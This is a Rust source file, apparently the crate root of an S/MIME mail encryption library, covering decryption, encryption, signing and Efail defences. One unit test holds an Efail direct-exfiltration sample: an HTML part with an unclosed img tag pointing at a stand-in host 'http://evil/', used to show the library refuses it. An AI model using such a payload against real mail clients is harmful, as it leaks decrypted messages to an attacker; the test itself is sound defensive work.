//! Sealgate's S/MIME engine: a pure library, MIME in and MIME out, with
//! private keys reached only through the `sealgate-hsm` traits.
//!
//! What it does (RFC 8551 S/MIME 4.0 over RFC 5652 CMS):
//! - [`decrypt_message`]: opens `application/pkcs7-mime` enveloped-data and
//!   authEnveloped-data (DER or streamed BER) with gateway keys on the token
//!   (RSA PKCS#1 v1.5 with implicit rejection, RSA-OAEP SHA-1/SHA-256,
//!   ECDH P-256/P-384 with AES key wrap); AES-128/192/256 CBC and GCM, 3DES
//!   read-only and flagged weak. The decrypted entity replaces the message's
//!   content: it is never merged with unencrypted parts (Efail direct
//!   exfiltration), and [`efail::check_cbc_content`] tells whether CBC
//!   content shows the marks of malleation (Efail CBC gadgets).
//! - [`encrypt_message`]: AuthEnvelopedData/AES-256-GCM when every
//!   recipient reads it, EnvelopedData/AES-256-CBC otherwise; RSA-OAEP-SHA256
//!   or PKCS#1 v1.5 key transport, ECDH for EC certificates.
//! - [`sign::sign_message`] and [`verify::verify_message`]: detached
//!   `multipart/signed` and opaque SignedData.
//! - [`cert`]: certificate parsing and choice of a recipient's certificate.
//!
//! What it refuses: anything over its limits ([`mime::MAX_MESSAGE_SIZE`],
//! [`der::MAX_DEPTH`], [`recipient::MAX_RECIPIENT_INFOS`],
//! [`cert::MAX_CERTS`], [`cert::MAX_CERT_SIZE`]), unknown or weak
//! algorithms for anything it writes, GCM tags other than 16 bytes,
//! password/KEK recipient infos. Errors are typed ([`Error`]);
//! [`Error::is_temporary`] marks a token outage (defer, never bounce).
//!
//! What it does not do: no network, no threads, no key storage, no policy.

pub mod cert;
pub mod cli;
pub mod content;
pub mod crl;
pub mod der;
pub mod efail;
pub mod envelope;
mod error;
pub mod mime;
pub mod oid;
pub mod recipient;
pub mod sign;
pub mod signed;
pub mod trust;
pub mod verify;

pub use cert::Certificate;
pub use content::ContentAlgorithm;
pub use envelope::{EncryptOptions, EnvelopeKind};
pub use error::Error;
pub use recipient::{GatewayKey, KeyProtection, RsaTransport};
pub use sign::{SignOptions, SigningIdentity, sign_message};
pub use verify::{Verdict, Verification, verify_message, verify_message_checked};

/// What [`decrypt_message`] found out besides the plaintext.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct DecryptReport {
    /// Which recipient info matched (index in message order).
    pub recipient_index: usize,
    /// How the content key was protected.
    pub key_protection: KeyProtection,
    /// The content cipher.
    pub content_algorithm: ContentAlgorithm,
    /// Whether the content was integrity-protected (AuthEnvelopedData/GCM).
    pub integrity_protected: bool,
    /// Whether the content cipher is weak (3DES).
    pub weak: bool,
    /// For content without integrity protection: the malleation check.
    pub cbc_check: Option<efail::CbcVerdict>,
}

/// A decrypted message.
#[derive(Debug)]
pub struct Decrypted {
    /// The new message: the outer header fields other than Content-* and
    /// MIME-Version, then the decrypted entity (its own header and body).
    pub message: zeroize::Zeroizing<Vec<u8>>,
    /// Where the decrypted entity starts in `message`.
    entity_start: usize,
    /// Algorithms, matched recipient, integrity.
    pub report: DecryptReport,
}

impl Decrypted {
    /// The decrypted entity alone (CRLF line ends).
    pub fn entity(&self) -> &[u8] {
        self.message.get(self.entity_start..).unwrap_or_default()
    }
}

fn is_pkcs7_mime(ct: &mime::ContentType) -> bool {
    matches!(
        ct.mime_type.as_str(),
        "application/pkcs7-mime" | "application/x-pkcs7-mime"
    ) || (ct.mime_type == "application/octet-stream"
        && ct
            .param("name")
            .is_some_and(|n| n.to_ascii_lowercase().ends_with(".p7m")))
}

/// Decrypts a message whose top-level entity is `application/pkcs7-mime`
/// (enveloped-data or authEnveloped-data) with one of `keys`.
///
/// An encrypted part inside a multipart is refused ([`Error::WrongType`]):
/// the decrypted content must become the whole message, never a part
/// beside unencrypted ones (Efail direct exfiltration).
pub fn decrypt_message(input: &[u8], keys: &[GatewayKey<'_>]) -> Result<Decrypted, Error> {
    let outer = mime::parse(input)?;
    let ct = outer.content_type();
    if !is_pkcs7_mime(&ct) {
        return Err(Error::WrongType(format!(
            "the message is {}, not application/pkcs7-mime",
            ct.mime_type
        )));
    }
    if let Some(t) = ct.param("smime-type") {
        let t = t.to_ascii_lowercase();
        if t != "enveloped-data" && t != "authenveloped-data" {
            return Err(Error::WrongType(format!("smime-type={t}")));
        }
    }
    let der_bytes = outer.decoded_body()?;
    let headers = mime::non_content_headers(&outer);
    let opened = envelope::open_after(&der_bytes, keys, headers)?;
    drop(der_bytes);
    let entity_start = opened.content_start;
    let mut message = opened.content;
    if !mime::is_crlf(message.get(entity_start..).unwrap_or_default()) {
        let crlf = zeroize::Zeroizing::new(mime::to_crlf(
            message.get(entity_start..).unwrap_or_default(),
        ));
        message.truncate(entity_start);
        message.extend_from_slice(&crlf);
    }
    let entity = message.get(entity_start..).unwrap_or_default();
    let cbc_check = (!opened.integrity_protected).then(|| efail::check_cbc_content(entity));
    Ok(Decrypted {
        message,
        entity_start,
        report: DecryptReport {
            recipient_index: opened.recipient_index,
            key_protection: opened.key_protection,
            content_algorithm: opened.content_algorithm,
            integrity_protected: opened.integrity_protected,
            weak: opened.weak,
            cbc_check,
        },
    })
}

/// Splits a message into its non-content header fields and its MIME entity
/// (the Content-* fields and the body), canonicalised to CRLF.
pub(crate) fn split_message(input: &[u8]) -> Result<(Vec<u8>, Vec<u8>), Error> {
    let e = mime::parse(input)?;
    let mut entity = Vec::new();
    let mut has_ct = false;
    for h in &e.headers {
        if h.name.to_ascii_lowercase().starts_with("content-") {
            has_ct |= h.name.eq_ignore_ascii_case("content-type");
            entity.extend_from_slice(&mime::to_crlf(&h.raw));
        }
    }
    if !has_ct {
        entity.extend_from_slice(b"Content-Type: text/plain; charset=us-ascii\r\n");
    }
    entity.extend_from_slice(b"\r\n");
    entity.extend_from_slice(&mime::to_crlf(e.body));
    Ok((mime::non_content_headers(&e), entity))
}

/// Encrypts a message for `recipients`: the MIME entity (Content-* fields
/// and body) is encrypted; the other header fields stay outside, and a
/// `MIME-Version` and the `application/pkcs7-mime` fields are added.
pub fn encrypt_message(
    input: &[u8],
    recipients: &[&Certificate],
    options: EncryptOptions,
) -> Result<Vec<u8>, Error> {
    let (outer, entity) = split_message(input)?;
    encrypt_entity(outer, entity, recipients, options)
}

/// Encrypts a message already split by the caller: `outer` (the header
/// fields that stay visible, CRLF-terminated) and `entity` (the MIME entity
/// to encrypt, CRLF). For header protection (RFC 9788) the caller puts
/// copies of the protected fields into `entity` and obscures them in `outer`.
pub fn encrypt_entity(
    outer: Vec<u8>,
    entity: Vec<u8>,
    recipients: &[&Certificate],
    options: EncryptOptions,
) -> Result<Vec<u8>, Error> {
    let der_bytes = envelope::seal(entity, recipients, options)?;
    let smime_type = if options.gcm {
        "authEnveloped-data"
    } else {
        "enveloped-data"
    };
    let mut out = outer;
    out.extend_from_slice(b"MIME-Version: 1.0\r\n");
    mime::push_pkcs7_mime_entity(&mut out, smime_type, &der_bytes);
    Ok(out)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    #[test]
    fn encrypted_part_inside_a_multipart_is_refused() {
        // Efail direct exfiltration: plaintext parts around an encrypted one.
        let m = b"From: a@b\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n--x\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHA6CAMIACAQA=\r\n--x--\r\n";
        assert!(matches!(decrypt_message(m, &[]), Err(Error::WrongType(_))));
    }

    #[test]
    fn signed_data_is_not_decrypted() {
        let m = b"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n\r\n";
        assert!(matches!(decrypt_message(m, &[]), Err(Error::WrongType(_))));
    }

    #[test]
    fn from_addresses() {
        assert_eq!(
            verify::from_address("Alice <Alice@Example.org>").as_deref(),
            Some("alice@example.org")
        );
        assert_eq!(
            verify::from_address("bob@example.org").as_deref(),
            Some("bob@example.org")
        );
        assert_eq!(verify::from_address("undisclosed"), None);
    }
}
